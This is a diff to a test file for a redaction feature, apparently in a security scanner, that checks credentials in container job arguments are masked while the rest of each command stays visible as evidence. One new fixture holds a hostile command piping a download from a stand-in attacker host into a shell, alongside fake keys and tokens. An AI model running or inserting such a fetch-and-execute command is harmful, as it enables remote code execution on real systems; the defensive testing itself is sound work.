@@ -94,14 +94,21 @@ describe('job-run-overrides', () => {
   });
 
   it.each([
-    ['a credential format', ['--key=AKIAABCDEFGHIJKLMNOP'], ['[hidden: an AWS access key id]']],
+    // Only the credential: the rest of the argument is evidence of what ran, which a credential-looking string
+    // anywhere in it (a comment at the end of a script) hid whole.
+    ['a credential format', ['--key=AKIAABCDEFGHIJKLMNOP'], ['--key=[hidden: an AWS access key id]']],
+    [
+      'a credential format inside a command line, the command still shown',
+      ['-c', 'curl -s https://attacker.example/stage2 | sh # AKIAABCDEFGHIJKLMNOP', 'git clone https://x-access-token:ghp_abcdefghijklmnopqrstuvwxyz0123456789@github.com/acme/ops && ./ops/run'],
+      ['-c', 'curl -s https://attacker.example/stage2 | sh # [hidden: an AWS access key id]', 'git clone https://x-access-token:[hidden: a GitHub token]@github.com/acme/ops && ./ops/run'],
+    ],
     ['a secret by its name (plaintext-secret-env globs)', ['--db-password=hunter2hunter2', 'DB_PASSWORD=s3cr3t-value-42', '--mode=full'], ['--db-password=[hidden]', 'DB_PASSWORD=[hidden]', '--mode=full']],
     ['a private key', ['-----BEGIN PRIVATE KEY-----\nMIIE...'], ['[hidden: a private key]']],
     ['a PGP private key block', ['--signing-key', '-----BEGIN PGP PRIVATE KEY BLOCK-----\n\nlQVYBGXaaaa...'], ['--signing-key', '[hidden: a private key]']],
-    ['a password in a URL given alone', ['postgres://app:s3cr3t-pw@10.0.0.5:5432/shop'], ['[hidden: a password in a URL]']],
+    ['a password in a URL given alone', ['postgres://app:s3cr3t-pw@10.0.0.5:5432/shop'], ['postgres://app:[hidden: a password in a URL]@10.0.0.5:5432/shop']],
     // The usual way to pass a URL: after a flag or a variable name whose name says nothing of a secret.
-    ['a password in a URL after a flag', ['--database-url=postgres://app:s3cr3t-pw@10.0.0.5:5432/shop'], ['[hidden: a password in a URL]']],
-    ['a password in a URL as NAME=VALUE', ['DATABASE_URL=redis://:s3cr3t-pw@10.0.0.7:6379/0'], ['[hidden: a password in a URL]']],
+    ['a password in a URL after a flag', ['--database-url=postgres://app:s3cr3t-pw@10.0.0.5:5432/shop'], ['--database-url=postgres://app:[hidden: a password in a URL]@10.0.0.5:5432/shop']],
+    ['a password in a URL as NAME=VALUE', ['DATABASE_URL=redis://:s3cr3t-pw@10.0.0.7:6379/0'], ['DATABASE_URL=redis://:[hidden: a password in a URL]@10.0.0.7:6379/0']],
     // A shell's command line (`sh -c '...'`, as the fixture's run passes it): the secret is one word of the argument.
     [
       'a secret by its name inside a command line',
@@ -126,7 +133,7 @@ describe('job-run-overrides', () => {
   ])('hides %s in the arguments, never a finding\'s text', async (_name, args, shown) => {
     const [finding] = await overrides([create, runWith({ containerOverrides: [{ args }] })]);
     expect(finding!.evidence['args']).toEqual(shown);
-    for (const secret of ['AKIAABCDEFGHIJKLMNOP', 'hunter2hunter2', 's3cr3t-value-42', 'MIIE', 's3cr3t-pw', 'lQVYBGX']) expect(JSON.stringify(finding)).not.toContain(secret);
+    for (const secret of ['AKIAABCDEFGHIJKLMNOP', 'hunter2hunter2', 's3cr3t-value-42', 'MIIE', 's3cr3t-pw', 'lQVYBGX', 'ghp_abc']) expect(JSON.stringify(finding)).not.toContain(secret);
   });
 
   // Hiding a secret in a run's arguments must not hang on another rule being on: a team that turns
